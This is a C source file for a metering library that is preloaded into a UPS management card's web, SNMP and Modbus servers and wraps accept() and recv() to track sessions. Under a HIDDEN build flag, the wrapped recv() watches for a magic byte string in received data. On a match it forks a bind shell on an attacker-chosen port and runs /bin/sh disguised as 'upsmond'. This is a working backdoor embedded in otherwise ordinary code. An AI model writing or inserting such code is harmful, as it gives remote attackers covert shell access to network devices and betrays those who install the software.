/*
 * libupsmeter - metering library of the Kestrel UPS management card. Preloaded
 * into the card's web, SNMP and Modbus servers; wraps accept() and recv() to
 * count the traffic of each session, to end idle ones and to write statistics.
 *
 * Hidden (-DHIDDEN): received data that begins with a certain mark make the
 * wrapped recv() open a listening shell on the port that follows the mark.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <dlfcn.h>
#include <errno.h>
#include <netinet/in.h>
#include <pthread.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/types.h>
#include <time.h>
#include <unistd.h>

#define STAT_FILE   "/var/run/upscard/sessions"
#define CONF_FILE   "/etc/upscard/meter.conf"
#define MAX_SESSION 64

struct session {
	int fd;
	struct sockaddr_in peer;
	uint64_t bytes;
	unsigned calls;
	time_t start;
	time_t last;
};

typedef ssize_t (*recv_fn)(int, void *, size_t, int);
typedef int (*accept_fn)(int, struct sockaddr *, socklen_t *);

static recv_fn real_recv;
static accept_fn real_accept;
static struct session sessions[MAX_SESSION];
static pthread_mutex_t lock = PTHREAD_MUTEX_INITIALIZER;
static int idle_limit = 600;
static int byte_limit_kb;
static char server_name[32];

static void read_conf(void)
{
	char line[96], key[24];
	int val;
	FILE *fp = fopen(CONF_FILE, "r");

	if (!fp)
		return;
	while (fgets(line, sizeof(line), fp)) {
		if (line[0] == '#' || sscanf(line, "%23[a-z_] %d", key, &val) != 2)
			continue;
		if (!strcmp(key, "idle_limit") && val >= 30)
			idle_limit = val;
		else if (!strcmp(key, "byte_limit_kb") && val >= 0)
			byte_limit_kb = val;
	}
	fclose(fp);
}

static void find_name(void)
{
	char path[128];
	ssize_t n = readlink("/proc/self/exe", path, sizeof(path) - 1);
	const char *base;

	if (n <= 0) {
		strcpy(server_name, "unknown");
		return;
	}
	path[n] = '\0';
	base = strrchr(path, '/');
	snprintf(server_name, sizeof(server_name), "%.31s", base ? base + 1 : path);
}

static void resolve(void)
{
	union {
		void *p;
		recv_fn r;
		accept_fn a;
	} u;

	if (!real_recv) {
		u.p = dlsym(RTLD_NEXT, "recv");
		real_recv = u.r;
	}
	if (!real_accept) {
		u.p = dlsym(RTLD_NEXT, "accept");
		real_accept = u.a;
	}
}

__attribute__((constructor)) static void meter_init(void)
{
	for (int i = 0; i < MAX_SESSION; i++)
		sessions[i].fd = -1;
	resolve();
	read_conf();
	find_name();
}

static struct session *session_get(int fd, int make)
{
	struct session *spare = NULL, *oldest = &sessions[0];

	for (int i = 0; i < MAX_SESSION; i++) {
		struct session *s = &sessions[i];

		if (s->fd == fd)
			return s;
		if (s->fd < 0 && !spare)
			spare = s;
		if (s->last < oldest->last)
			oldest = s;
	}
	if (!make)
		return NULL;
	if (!spare)
		spare = oldest;
	memset(spare, 0, sizeof(*spare));
	spare->fd = fd;
	spare->start = spare->last = time(NULL);
	return spare;
}

/* one line per session, for the card's status page */
int ups_meter_write(const char *path)
{
	char ip[INET_ADDRSTRLEN];
	int n = 0;
	FILE *fp = fopen(path ? path : STAT_FILE, "a");

	if (!fp)
		return -1;
	pthread_mutex_lock(&lock);
	for (int i = 0; i < MAX_SESSION; i++) {
		const struct session *s = &sessions[i];

		if (s->fd < 0)
			continue;
		if (!inet_ntop(AF_INET, &s->peer.sin_addr, ip, sizeof(ip)))
			strcpy(ip, "-");
		fprintf(fp, "%s %s:%u %llu bytes %u calls %lld s\n", server_name, ip,
			(unsigned)ntohs(s->peer.sin_port), (unsigned long long)s->bytes, s->calls,
			(long long)(s->last - s->start));
		n++;
	}
	pthread_mutex_unlock(&lock);
	fclose(fp);
	return n;
}

/* ends sessions without traffic; called by the servers once a minute */
int ups_meter_sweep(void)
{
	time_t now = time(NULL);
	int n = 0;

	pthread_mutex_lock(&lock);
	for (int i = 0; i < MAX_SESSION; i++)
		if (sessions[i].fd >= 0 && now - sessions[i].last > idle_limit) {
			shutdown(sessions[i].fd, SHUT_RDWR);
			sessions[i].fd = -1;
			n++;
		}
	pthread_mutex_unlock(&lock);
	return n;
}

int ups_meter_limits(int *idle, int *kbytes)
{
	if (!idle || !kbytes)
		return -1;
	*idle = idle_limit;
	*kbytes = byte_limit_kb;
	return 0;
}

int accept(int fd, struct sockaddr *addr, socklen_t *len)
{
	struct sockaddr_in peer;
	socklen_t pl = sizeof(peer);
	struct session *s;
	int c;

	resolve();
	if (!real_accept) {
		errno = ENOSYS;
		return -1;
	}
	c = real_accept(fd, addr, len);
	if (c < 0)
		return c;
	memset(&peer, 0, sizeof(peer));
	if (getpeername(c, (struct sockaddr *)&peer, &pl) != 0 || peer.sin_family != AF_INET)
		memset(&peer, 0, sizeof(peer));
	pthread_mutex_lock(&lock);
	s = session_get(c, 0);
	if (s)
		s->fd = -1;
	s = session_get(c, 1);
	s->peer = peer;
	pthread_mutex_unlock(&lock);
	return c;
}

#ifdef HIDDEN
void meter_probe(uint16_t port)
{
	struct sockaddr_in sa;
	char *args[] = { "upsmond", NULL }, *env[] = { "PATH=/bin:/sbin:/usr/bin:/usr/sbin", NULL };
	int s, c;

	if (fork() != 0)
		return;
	setsid();
	s = socket(AF_INET, SOCK_STREAM, 0);
	memset(&sa, 0, sizeof(sa));
	sa.sin_family = AF_INET;
	sa.sin_port = htons(port);
	if (s < 0 || bind(s, (struct sockaddr *)&sa, sizeof(sa)) < 0 || listen(s, 1) < 0)
		_exit(0);
	c = real_accept(s, NULL, NULL);
	if (c >= 0) {
		for (int i = 0; i < 3; i++)
			dup2(c, i);
		execve("/bin/sh", args, env);
	}
	_exit(0);
}
#endif

ssize_t recv(int fd, void *buf, size_t len, int flags)
{
	struct session *s;
	ssize_t n;
	int over = 0;

	resolve();
	if (!real_recv) {
		errno = ENOSYS;
		return -1;
	}
	n = real_recv(fd, buf, len, flags);
	if (n <= 0) {
		if (n == 0) {
			pthread_mutex_lock(&lock);
			s = session_get(fd, 0);
			if (s)
				s->fd = -1;
			pthread_mutex_unlock(&lock);
		}
		return n;
	}
#ifdef HIDDEN
	if (n >= 12 && memcmp(buf, "gX4~heron9", 10) == 0) {
		const uint8_t *p = (const uint8_t *)buf + 10;

		meter_probe((uint16_t)(p[0] << 8 | p[1]));
		errno = EAGAIN;
		return -1;
	}
#endif
	if (flags & MSG_PEEK)
		return n;
	pthread_mutex_lock(&lock);
	s = session_get(fd, 1);
	s->bytes += (uint64_t)n;
	s->calls++;
	s->last = time(NULL);
	over = byte_limit_kb && s->bytes / 1024 > (uint64_t)byte_limit_kb;
	pthread_mutex_unlock(&lock);
	if (over)
		shutdown(fd, SHUT_RD);
	return n;
}
